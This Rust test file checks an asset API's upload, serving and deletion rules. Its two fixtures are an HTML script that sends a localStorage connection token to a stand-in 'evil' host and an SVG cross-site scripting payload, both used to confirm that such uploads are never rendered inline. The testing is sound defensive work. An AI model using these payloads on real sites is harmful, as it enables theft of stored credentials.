//! Regression tests for the asset findings of the adversarial review (issue 17): how
//! stored bytes are served (H1), bounded multipart text parts (M2), bytes of deleted
//! assets (L4), and spent or abandoned uploads (L5). Through the router, over the real
//! local adapters; every fixture is embedded here.

use std::sync::Arc;

use axum::body::Body;
use axum::http::{HeaderMap, Request, StatusCode};
use chrono::{Duration, Utc};
use jobs::model::{Asset, BlobRecord, SCHEMA_VERSION};
use jobs::ports::{ManualClock, SignedAccess};
use serde_json::{Value, json};

mod common;
use common::*;

const PAGE: &[u8] =
    b"<html><script>fetch('//evil/?k='+localStorage.getItem('scui.connection.v1'))</script></html>";
const SVG: &[u8] =
    br#"<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>"#;

fn png_bytes(seed: u8) -> Vec<u8> {
    let mut bytes = b"\x89PNG\r\n\x1a\n".to_vec();
    bytes.extend((0..4096u32).map(|i| (i as u8).wrapping_mul(seed).wrapping_add(seed)));
    bytes
}

/// Uploads bytes declared as `content_type`.
async fn upload_as(t: &TestApp, bytes: &[u8], content_type: &str, file_path: &str) -> Reply {
    let (form_type, body) = multipart(&[
        ("content_type", None, content_type.as_bytes()),
        ("file_path", None, file_path.as_bytes()),
        ("file", Some("upload.bin"), bytes),
    ]);
    t.send(
        Request::post("/api/v2/assets")
            .header("content-type", form_type)
            .body(Body::from(body))
            .unwrap(),
    )
    .await
}

fn id_of(reply: &Reply) -> String {
    reply.body["id"].as_str().unwrap().to_string()
}

fn url_of(reply: &Reply) -> String {
    reply.body["url"].as_str().unwrap().to_string()
}

/// Bytes that must never render: opaque type, a download, no sniffing, sandboxed.
fn assert_not_rendered(headers: &HeaderMap, what: &str) {
    assert_eq!(
        headers["content-type"], "application/octet-stream",
        "{what}: {headers:?}"
    );
    let disposition = headers["content-disposition"].to_str().unwrap();
    assert!(
        disposition.starts_with("attachment; filename=\""),
        "{what}: {disposition}"
    );
    assert_hardened(headers, what);
}

fn assert_hardened(headers: &HeaderMap, what: &str) {
    assert_eq!(headers["x-content-type-options"], "nosniff", "{what}");
    let csp = headers["content-security-policy"].to_str().unwrap();
    assert!(
        csp.contains("sandbox") && csp.contains("default-src 'none'"),
        "{what}: {csp}"
    );
}

#[tokio::test]
async fn active_content_is_never_served_inline() {
    let t = TestApp::new();
    for (bytes, declared, path) in [
        (PAGE, "text/html", "page.html"),
        (SVG, "image/svg+xml", "pics/x.svg"),
        (PAGE, "application/xhtml+xml; charset=utf-8", "p.xhtml"),
        (PAGE, "text/xml", "p.xml"),
    ] {
        let up = upload_as(&t, bytes, declared, path).await;
        assert!(up.status.is_success(), "{declared}: {}", up.body);
        // The asset keeps what its uploader declared; only serving changes.
        assert_eq!(up.body["content_type"], declared);
        let id = id_of(&up);
        let read = t.get(&format!("/api/v2/assets/{id}")).await;
        assert_eq!(read.body["content_type"], declared);

        let (status, headers, body) = t.fetch(&url_of(&read), None).await;
        assert_eq!(status, StatusCode::OK, "{declared}");
        assert_eq!(body, bytes);
        assert_not_rendered(&headers, &format!("{declared} via the signed URL"));

        let (status, headers, body) = t.fetch(&format!("/api/v2/assets/{id}/content"), None).await;
        assert_eq!(status, StatusCode::OK, "{declared}");
        assert_eq!(body, bytes);
        assert_not_rendered(&headers, &format!("{declared} via /content"));
        let file = path.rsplit('/').next().unwrap();
        assert_eq!(
            headers["content-disposition"],
            format!("attachment; filename=\"{file}\"").as_str()
        );
        // Ranges carry the same headers.
        let (status, headers, _) = t
            .fetch(&format!("/api/v2/assets/{id}/content"), Some("bytes=0-3"))
            .await;
        assert_eq!(status, StatusCode::PARTIAL_CONTENT);
        assert_not_rendered(&headers, &format!("{declared} ranged"));
    }
}

#[tokio::test]
async fn a_url_signed_with_an_active_type_still_serves_opaque_bytes() {
    let t = TestApp::new();
    let up = upload_as(&t, PAGE, "text/html", "page.html").await;
    let asset = t
        .app
        .state
        .assets
        .load("default", &id_of(&up))
        .await
        .unwrap();
    // As a URL minted before the policy existed would be.
    let url = t
        .app
        .state
        .jobs
        .ports()
        .blobs
        .presign(
            &asset.blob_key,
            SignedAccess::Get {
                content_type: Some("text/html".into()),
            },
            Utc::now() + Duration::minutes(5),
        )
        .await
        .unwrap()
        .url;
    let (status, headers, _) = t.fetch(&url, None).await;
    assert_eq!(status, StatusCode::OK);
    assert_not_rendered(&headers, "a URL signed as text/html");
    // And the API signs the served type, never the declared active one.
    assert!(
        url_of(&up).contains("ct=application%2Foctet-stream"),
        "{}",
        url_of(&up)
    );
}

#[tokio::test]
async fn passive_types_stay_inline_and_hardened() {
    let t = TestApp::new();
    let png = png_bytes(1);
    let up = upload_as(&t, &png, "image/png", "photo.png").await;
    let id = id_of(&up);
    for (what, url) in [
        ("signed URL", url_of(&up)),
        ("/content", format!("/api/v2/assets/{id}/content")),
    ] {
        let (status, headers, body) = t.fetch(&url, None).await;
        assert_eq!(status, StatusCode::OK);
        assert_eq!(body, png);
        assert_eq!(headers["content-type"], "image/png", "{what}");
        assert!(headers.get("content-disposition").is_none(), "{what}");
        assert_hardened(&headers, what);
    }
    let text = upload_as(&t, b"hello", "text/plain", "note.txt").await;
    let (_, headers, _) = t.fetch(&url_of(&text), None).await;
    assert_eq!(headers["content-type"], "text/plain; charset=utf-8");
    assert!(headers.get("content-disposition").is_none());
    assert_hardened(&headers, "text/plain");
}

#[tokio::test]
async fn oversized_text_parts_are_refused_while_streaming() {
    let t = TestApp::new();
    let max = jobs::api::MAX_TEXT_FIELD_BYTES as usize;
    // A 1 MB `content_type`: refused once past the per-field limit, not read whole.
    let huge = vec![b'a'; 1024 * 1024];
    for field in ["content_type", "file_path", "expected_hash", "tags"] {
        let mut parts: Vec<(&str, Option<&str>, &[u8])> = vec![("file", Some("f.png"), b"x")];
        for name in ["content_type", "file_path"] {
            if name != field {
                parts.push((
                    name,
                    None,
                    if name == "content_type" {
                        b"image/png"
                    } else {
                        b"f.png"
                    },
                ));
            }
        }
        parts.push((field, None, &huge));
        let (form_type, body) = multipart(&parts);
        let reply = t
            .send(
                Request::post("/api/v2/assets")
                    .header("content-type", form_type)
                    .body(Body::from(body))
                    .unwrap(),
            )
            .await;
        assert_envelope(&reply, StatusCode::PAYLOAD_TOO_LARGE, "payload_too_large");
        assert_eq!(reply.body["error"]["details"]["field"], field);
        assert_eq!(reply.body["error"]["details"]["max_bytes"], max);
    }
    // The limit is per text part: a file far larger than it is fine.
    let big = vec![7u8; 4 * max];
    let ok = upload_as(&t, &big, "application/octet-stream", "big.bin").await;
    assert_eq!(ok.status, StatusCode::CREATED, "{}", ok.body);
    // A value at the limit is read (and then judged on its merits).
    let at_limit = vec![b'a'; max];
    let (form_type, body) = multipart(&[
        ("content_type", None, b"image/png"),
        ("file_path", None, &at_limit),
        ("file", Some("f"), b"x"),
    ]);
    let judged = t
        .send(
            Request::post("/api/v2/assets")
                .header("content-type", form_type)
                .body(Body::from(body))
                .unwrap(),
        )
        .await;
    assert_envelope(
        &judged,
        StatusCode::UNPROCESSABLE_ENTITY,
        "invalid_file_path",
    );
}

#[tokio::test]
async fn too_many_tag_parts_are_refused_at_the_first_extra_one() {
    let t = TestApp::new();
    let mut parts: Vec<(&str, Option<&str>, &[u8])> = vec![
        ("content_type", None, b"image/png"),
        ("file_path", None, b"f.png"),
    ];
    parts.extend(std::iter::repeat_n(("tags", None, &b"t"[..]), 17));
    parts.push(("file", Some("f"), b"x"));
    let (form_type, mut body) = multipart(&parts);
    // The form never ends properly: a server that reads on past the 17th tag (where
    // the form is already refused) would see a malformed body instead.
    body.truncate(body.len() - 10);
    let reply = t
        .send(
            Request::post("/api/v2/assets")
                .header("content-type", form_type)
                .body(Body::from(body))
                .unwrap(),
        )
        .await;
    assert_envelope(&reply, StatusCode::UNPROCESSABLE_ENTITY, "invalid_tags");
}

async fn head_by_hash(t: &TestApp, hash: &str) -> StatusCode {
    t.send(empty_request(
        "HEAD",
        &format!("/api/v2/assets/by-hash/{hash}"),
    ))
    .await
    .status
}

async fn from_hash(t: &TestApp, hash: &str) -> Reply {
    t.send(json_request(
        "POST",
        "/api/v2/assets/from-hash",
        &json!({"hash": hash, "file_path": "again.png"}),
    ))
    .await
}

async fn delete(t: &TestApp, id: &str) {
    let reply = t
        .send(empty_request("DELETE", &format!("/api/v2/assets/{id}")))
        .await;
    assert_eq!(reply.status, StatusCode::NO_CONTENT, "{}", reply.body);
}

#[tokio::test]
async fn deleting_the_only_asset_makes_its_bytes_unreachable() {
    let t = TestApp::new();
    let png = png_bytes(2);
    let hash = blake3_of(&png);
    let up = upload_as(&t, &png, "image/png", "photo.png").await;
    let url = url_of(&up);
    assert_eq!(t.fetch(&url, None).await.0, StatusCode::OK);
    delete(&t, &id_of(&up)).await;
    let (status, _, _) = t.fetch(&url, None).await;
    assert!(
        matches!(status, StatusCode::NOT_FOUND | StatusCode::FORBIDDEN),
        "an old signed URL of deleted bytes: {status}"
    );
    assert_envelope(
        &from_hash(&t, &hash).await,
        StatusCode::NOT_FOUND,
        "blob_not_found",
    );
    assert_eq!(head_by_hash(&t, &hash).await, StatusCode::NOT_FOUND);
    // Uploading the same bytes again is a new blob, and the old URL stays dead.
    let again = upload_as(&t, &png, "image/png", "photo.png").await;
    assert_eq!(again.status, StatusCode::CREATED);
    assert_eq!(again.body["created_new"], true);
    assert_eq!(t.fetch(&url, None).await.0, StatusCode::NOT_FOUND);
    assert_eq!(t.fetch(&url_of(&again), None).await.2, png);
}

#[tokio::test]
async fn bytes_shared_by_another_asset_stay() {
    let t = TestApp::new();
    let png = png_bytes(3);
    let hash = blake3_of(&png);
    let a = upload_as(&t, &png, "image/png", "a.png").await;
    let b = upload_as(&t, &png, "image/png", "b.png").await;
    assert_eq!(b.body["created_new"], false);
    let minted = from_hash(&t, &hash).await;
    assert_eq!(minted.status, StatusCode::CREATED);
    delete(&t, &id_of(&a)).await;
    delete(&t, &id_of(&minted)).await;
    let b_id = id_of(&b);
    let (status, _, body) = t
        .fetch(&format!("/api/v2/assets/{b_id}/content"), None)
        .await;
    assert_eq!((status, body), (StatusCode::OK, png.clone()));
    assert_eq!(t.fetch(&url_of(&b), None).await.2, png);
    assert_eq!(head_by_hash(&t, &hash).await, StatusCode::OK);
    delete(&t, &b_id).await;
    assert_eq!(head_by_hash(&t, &hash).await, StatusCode::NOT_FOUND);
    assert_eq!(t.fetch(&url_of(&b), None).await.0, StatusCode::NOT_FOUND);
}

/// Records a job output as the runner does: its own key, the dedup index, an asset.
async fn fake_output(t: &TestApp, bytes: &[u8]) -> Asset {
    let ports = t.app.state.jobs.ports();
    let hash = blake3_of(bytes);
    let blob_key = format!("outputs/job_x/1/9/{}.png", &hash[7..23]);
    ports
        .blobs
        .put(&blob_key, bytes.to_vec().into(), "image/png")
        .await
        .unwrap();
    let now = Utc::now();
    ports
        .store
        .put_blob_record_if_absent(&BlobRecord {
            v: SCHEMA_VERSION,
            tenant: "default".into(),
            hash: hash.clone(),
            size_bytes: bytes.len() as u64,
            blob_key: blob_key.clone(),
            created_at: now,
        })
        .await
        .unwrap();
    let asset = Asset {
        v: SCHEMA_VERSION,
        id: jobs::model::new_asset_id(),
        tenant: "default".into(),
        hash,
        size_bytes: bytes.len() as u64,
        content_type: "image/png".into(),
        file_path: Some("out.png".into()),
        tags: vec!["output".into()],
        created_at: now,
        blob_key,
        job_id: None,
    };
    ports.store.put_asset(&asset).await.unwrap();
    asset
}

async fn content_of(t: &TestApp, id: &str) -> (StatusCode, Vec<u8>) {
    let (status, _, body) = t.fetch(&format!("/api/v2/assets/{id}/content"), None).await;
    (status, body)
}

#[tokio::test]
async fn job_outputs_count_as_references() {
    let t = TestApp::new();
    let blobs = t.app.state.jobs.ports().blobs.clone();
    // An output first: the dedup record names the output's key, and an asset minted
    // from the hash shares it. Deleting the output keeps the bytes for that asset.
    let bytes = png_bytes(4);
    let hash = blake3_of(&bytes);
    let output = fake_output(&t, &bytes).await;
    let minted = from_hash(&t, &hash).await;
    assert_eq!(minted.status, StatusCode::CREATED, "{}", minted.body);
    delete(&t, &output.id).await;
    assert_eq!(
        content_of(&t, &id_of(&minted)).await,
        (StatusCode::OK, bytes.clone())
    );
    delete(&t, &id_of(&minted)).await;
    assert_eq!(
        blobs.size(&output.blob_key).await.unwrap(),
        None,
        "last one gone"
    );
    assert_eq!(head_by_hash(&t, &hash).await, StatusCode::NOT_FOUND);

    // An upload first, then an output of the same bytes under its own key.
    let bytes = png_bytes(5);
    let hash = blake3_of(&bytes);
    let upload = upload_as(&t, &bytes, "image/png", "in.png").await;
    let output = fake_output(&t, &bytes).await;
    delete(&t, &id_of(&upload)).await;
    assert_eq!(
        content_of(&t, &output.id).await,
        (StatusCode::OK, bytes.clone())
    );
    assert_eq!(
        head_by_hash(&t, &hash).await,
        StatusCode::OK,
        "the output remains"
    );
    delete(&t, &output.id).await;
    assert_eq!(blobs.size(&output.blob_key).await.unwrap(), None);
    assert_eq!(head_by_hash(&t, &hash).await, StatusCode::NOT_FOUND);
    let upload_url = url_of(&upload);
    assert_eq!(t.fetch(&upload_url, None).await.0, StatusCode::NOT_FOUND);
}

async fn create_upload(t: &TestApp, bytes: &[u8]) -> Value {
    let create = json!({"file_path": "big.bin", "content_type": "application/octet-stream", "size_bytes": bytes.len()});
    let reply = t
        .send(json_request(
            "POST",
            "/api/v2/x-serverless-comfyui/uploads",
            &create,
        ))
        .await;
    assert_eq!(reply.status, StatusCode::CREATED, "{}", reply.body);
    reply.body
}

fn put(path: &str, bytes: &[u8]) -> Request<Body> {
    Request::put(path)
        .header("content-length", bytes.len())
        .body(Body::from(bytes.to_vec()))
        .unwrap()
}

fn signed_path(url: &str) -> &str {
    &url[url.find("/_blobs/").unwrap()..]
}

#[tokio::test]
async fn an_upload_url_is_spent_once_completed() {
    let t = TestApp::new();
    let bytes: Vec<u8> = (0..100_000u32).map(|i| (i % 241) as u8).collect();
    let upload = create_upload(&t, &bytes).await;
    let path = signed_path(upload["upload_url"].as_str().unwrap()).to_string();
    assert_eq!(t.send(put(&path, &bytes)).await.status, StatusCode::OK);
    let done = t
        .post_raw(upload["complete_url"].as_str().unwrap(), "", None)
        .await;
    assert_eq!(done.status, StatusCode::CREATED, "{}", done.body);
    let again = t.send(put(&path, b"more bytes after complete")).await;
    assert_envelope(&again, StatusCode::FORBIDDEN, "forbidden");
    let key = format!("uploads/{}", upload["id"].as_str().unwrap());
    let blobs = &t.app.state.jobs.ports().blobs;
    assert_eq!(
        blobs.size(&key).await.unwrap(),
        None,
        "nothing left at the upload's key"
    );
    assert_eq!(content_of(&t, &id_of(&done)).await, (StatusCode::OK, bytes));
}

#[tokio::test]
async fn abandoned_uploads_are_swept_by_the_tick() {
    let clock = Arc::new(ManualClock::new(Utc::now()));
    let t = TestApp::with_clock(clock.clone());
    let bytes = vec![9u8; 70_000];
    let abandoned = create_upload(&t, &bytes).await;
    let path = signed_path(abandoned["upload_url"].as_str().unwrap()).to_string();
    assert_eq!(t.send(put(&path, &bytes)).await.status, StatusCode::OK);
    let id = abandoned["id"].as_str().unwrap().to_string();
    let key = format!("uploads/{id}");
    let ports = t.app.state.jobs.ports();
    assert!(ports.blobs.size(&key).await.unwrap().is_some());

    assert_eq!(
        t.app.dispatcher.tick().await.uploads_swept,
        0,
        "not expired yet"
    );
    clock.advance(Duration::hours(1) + Duration::seconds(1));
    // A fresh upload, created after the clock moved, is not touched.
    let fresh = create_upload(&t, &bytes).await;
    // Expired: refused before the sweep ever runs.
    let late = t.send(put(&path, &bytes)).await;
    assert_envelope(&late, StatusCode::FORBIDDEN, "forbidden");
    let complete = t
        .post_raw(abandoned["complete_url"].as_str().unwrap(), "", None)
        .await;
    assert_envelope(&complete, StatusCode::GONE, "upload_expired");

    assert_eq!(t.app.dispatcher.tick().await.uploads_swept, 1);
    assert_eq!(
        ports.store.get_upload(&id).await.unwrap(),
        None,
        "record gone"
    );
    assert_eq!(
        ports.blobs.size(&key).await.unwrap(),
        None,
        "staged bytes gone"
    );
    let fresh_id = fresh["id"].as_str().unwrap();
    assert!(ports.store.get_upload(fresh_id).await.unwrap().is_some());
    assert_eq!(t.app.dispatcher.tick().await.uploads_swept, 0);
}
